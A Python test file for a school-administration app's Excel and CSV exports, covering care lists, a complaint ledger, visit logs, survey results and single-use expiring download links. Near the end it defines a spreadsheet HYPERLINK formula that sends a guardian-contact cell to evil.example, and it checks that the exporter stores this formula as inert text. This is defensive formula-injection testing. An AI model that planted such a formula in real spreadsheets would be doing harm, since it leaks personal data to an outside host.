"""Excel exports: opened with openpyxl and checked cell by cell; download links for directors."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import re

import openpyxl

from models import links, surveys
from models.scope import Scope
from models.visits import Visit
from tests.kit import SimBot


def _export(runner, tmp_path, *args):
    path = tmp_path / "out.xlsx"
    result = runner.invoke(args=["export", *args, "--school", "t1", str(path)])
    assert result.exit_code == 0, result.output
    return openpyxl.load_workbook(path), result.output


def _rows(ws, first: int = 3) -> list[tuple]:
    return [tuple(c.value for c in row) for row in ws.iter_rows(min_row=first)]


def test_care_list_cell_by_cell_and_print_setup(runner, tmp_path, school):
    wb, output = _export(runner, tmp_path, "care")
    assert "特殊关爱清单：2 行" in output
    ws = wb.active
    assert ws.title == "特殊关爱清单" and ws["A1"].value == "测试小学特殊关爱清单"
    assert [c.value for c in ws[2]] == ["序号", "班级", "学生", "性别", "关爱类型", "包靠教师", "班主任", "监护人及联系电话"]
    assert _rows(ws) == [
        (1, "一年级一班", "陈大宝", None, "留守", "李强", "王芳", "妈妈 刘芳 13600002222"),
        (2, "一年级一班", "王小虎", None, "家庭困难", "王芳", "王芳", "奶奶 王秀英 13700001111"),
    ]
    assert ws.page_setup.orientation == "landscape" and ws.print_title_rows == "$2:$2"
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.freeze_panes == "A3"


def test_ledger_lists_tickets_with_history_and_state(runner, tmp_path, ext, db_session, school):
    bot = SimBot(ext, db_session)
    bot.bind("张小明妈妈")
    bot.say("张小明妈妈", "食堂的饭菜太咸了，孩子每天都吃不下，希望学校改进")
    wb, output = _export(runner, tmp_path, "ledger")
    ws = wb.active
    assert ws["A1"].value == "测试小学问题整改台账" and ws["H2"].value == "问题描述" and ws["O2"].value == "是否销号"
    rows = _rows(ws)
    assert len(rows) == 1, output
    row = dict(zip([c.value for c in ws[2]], rows[0], strict=True))
    assert re.fullmatch(r"T1-\d{4}-\d{4}", row["编号"]), "the deployment-wide number"
    assert row["登记时间"] == dt.datetime(2026, 11, 23, 10, 0)
    assert row["班级"] == "一年级一班" and row["学生"] == "张小明" and "饭菜太咸" in row["问题描述"]
    assert row["是否销号"] == "未销号" and row["销号时间"] is None and row["办理记录"]
    ws_empty = _export(runner, tmp_path, "ledger", "--from", "2026-12-01", "--to", "2026-12-31")[0].active
    assert _rows(ws_empty) == []


def test_visit_log(runner, tmp_path, db_session, school, now):
    db_session.add(Visit(school_id=school.school.id, student_id=school.students["王小虎"].id,
                         staff_id=school.staff["王芳"].id, kind="home", visited_at=now - dt.timedelta(days=2),
                         notes="奶奶反映孩子晚上写作业到十点", created_at=now))
    db_session.commit()
    ws = _export(runner, tmp_path, "visits", "--from", "2026-11-01", "--to", "2026-11-30")[0].active
    assert ws["A1"].value == "测试小学入户访问登记表"
    assert _rows(ws) == [(1, dt.datetime(2026, 11, 21, 10, 0), "一年级一班", "王小虎", "奶奶 王秀英 13700001111",
                          "入户", "王芳", "奶奶反映孩子晚上写作业到十点", None)]
    assert ws["B3"].number_format == "yyyy-mm-dd hh:mm"


def test_survey_results_sheets(runner, tmp_path, ext, db_session, school, now):
    # Two responses: shown in full only with the anonymity threshold lowered (tests/test_survey_anonymity.py).
    ext.settings = dataclasses.replace(ext.settings, surveys=dataclasses.replace(ext.settings.surveys, min_breakdown=1))
    scope = Scope("全校", tuple(c.id for c in school.classes.values()))
    survey, _ = surveys.launch_survey(db_session, author=school.staff["赵校长"], scope=scope,
                                      deadline=now + dt.timedelta(days=3), settings=ext.settings, now=now)
    codes = surveys.INDICATOR_CODES
    for name, values in (("张小明", [1, 1, 2, 3, 4, 1]), ("陈二宝", [1] * 6)):
        surveys.save_answers(db_session, survey, school.students[name], dict(zip(codes, values, strict=True)),
                             via="web", now=now)
    db_session.commit()
    wb = _export(runner, tmp_path, "survey")[0]
    ws = wb["满意度测评结果"]
    rows = _rows(ws)
    assert rows[0] == ("整体办学水平", 2, 0, 0, 0, 1.0)
    assert rows[3] == ("学生课业负担", 1, 0, 1, 0, 0.5)
    assert rows[4] == ("学习生活条件及服务", 1, 0, 0, 1, 1.0)
    assert rows[6] == ("综合", 9, 1, 1, 1, round(10 / 11, 4))
    assert rows[7] == ("回收率", 2, 5, None, None, 0.4)
    assert ws["F3"].number_format == "0.0%"
    ranking = _rows(wb["班级排名"])
    assert ranking[0][:5] == (1, "一年级二班", 2, 1, 0.5) and ranking[0][-1] == 1.0
    assert ranking[1][:5] == (2, "一年级一班", 3, 1, round(1 / 3, 4)) and ranking[1][-1] == 0.8


def test_survey_export_without_survey_fails_politely(runner, tmp_path, school):
    result = runner.invoke(args=["export", "survey", "--school", "t1", str(tmp_path / "x.xlsx")])
    assert result.exit_code != 0 and "还没有满意度测评" in result.output


def test_chat_export_link_works_only_for_the_director_and_expires(ext, db_session, client, school, now):
    bot = SimBot(ext, db_session)
    bot.bind("钱主任")
    bot.bind("张小明妈妈")
    assert any("没有使用「导出台账」的权限" in r for r in bot.say("张小明妈妈", "导出台账"))
    reply = "\n".join(bot.say("钱主任", "导出关爱"))
    assert "10 分钟内下载" in reply
    path = re.search(r"http://[^/]+(/x/\S+)", reply).group(1)
    # Same export, a link re-signed for another staff member: refused.
    token = path.rsplit("/", 1)[1]
    data = links.read_token(ext.settings.app.secret_key, "export", token, now)
    other = links.make_token(ext.settings.app.secret_key, "export", {**data, "st": school.staff["王芳"].id},
                             now + dt.timedelta(minutes=5))
    assert client.get(f"/x/{other}").status_code == 403
    assert client.post(f"/x/{other}").status_code == 403
    ext.clock = lambda: now + dt.timedelta(minutes=11)
    assert client.get(path).status_code == 410 and client.post(path).status_code == 410


def test_a_download_link_works_once_and_a_preview_does_not_use_it(ext, db_session, client, school, now):
    bot = SimBot(ext, db_session)
    bot.bind("钱主任")
    path = re.search(r"http://[^/]+(/x/\S+)", "\n".join(bot.say("钱主任", "导出关爱"))).group(1)
    for _ in range(2):  # the chat app's link preview, then the director opening it
        page = client.get(path)
        assert page.status_code == 200 and "下载文件" in page.get_data(as_text=True)
        assert page.headers["Cache-Control"] == "no-store"
    got = client.post(path)
    assert got.status_code == 200 and "attachment" in got.headers["Content-Disposition"]
    assert got.headers["Cache-Control"] == "no-store"
    assert openpyxl.load_workbook(io.BytesIO(got.data)).active["C3"].value == "陈大宝"
    again = client.post(path)  # a forwarded copy, or a second click
    assert again.status_code == 410 and "只能使用一次" in again.get_data(as_text=True)
    assert client.get(path).status_code == 410


FORMULA = '=HYPERLINK("http://evil.example/?d="&G3,"食堂的饭菜太咸了，孩子每天都吃不下，希望学校改进")'


def _no_formulas(wb) -> None:
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a live formula: {cell.value!r}"


def test_parent_text_is_never_a_live_formula_in_the_ledger(runner, tmp_path, ext, db_session, school):
    bot = SimBot(ext, db_session)
    bot.bind("张小明妈妈")
    bot.say("张小明妈妈", FORMULA)
    wb, _ = _export(runner, tmp_path, "ledger")
    _no_formulas(wb)
    row = dict(zip([c.value for c in wb.active[2]], _rows(wb.active)[0], strict=True))
    cell = next(c for c in wb.active[3] if c.value == row["问题描述"])
    assert cell.value.startswith("=HYPERLINK") and cell.quotePrefix  # shown as typed, stored as text


def test_roster_names_are_never_live_formulas_in_the_care_list(runner, tmp_path, db_session, school):
    school.students["陈大宝"].name = "=1+1大宝"
    school.staff["李强"].name = "@SUM(1)老师"
    db_session.commit()
    wb, _ = _export(runner, tmp_path, "care")
    _no_formulas(wb)
    values = {c.value for row in wb.active.iter_rows() for c in row}
    assert "=1+1大宝" in values and "@SUM(1)老师" in values


def test_weekly_sheet_and_csv_ledger_escape_formulas(runner, ext, db_session, school, now, tmp_path):
    from models.weekly import figures as week_figures
    from models.weekly import write_workbook

    bot = SimBot(ext, db_session)
    bot.bind("张小明妈妈")
    bot.say("张小明妈妈", FORMULA)
    csv_out = runner.invoke(args=["tickets", "list", "--school", "t1", "--csv"]).output
    assert "'=HYPERLINK" in csv_out and ',=HYPERLINK' not in csv_out and '"=HYPERLINK' not in csv_out
    from zoneinfo import ZoneInfo
    tz = ZoneInfo("Asia/Shanghai")
    start, end = now - dt.timedelta(days=7), now + dt.timedelta(days=1)
    figures = week_figures(db_session, school.school.id, start, end)
    path = write_workbook(db_session, school.school, tmp_path / "w.xlsx", figures, figures, start, end, tz)
    _no_formulas(openpyxl.load_workbook(path))
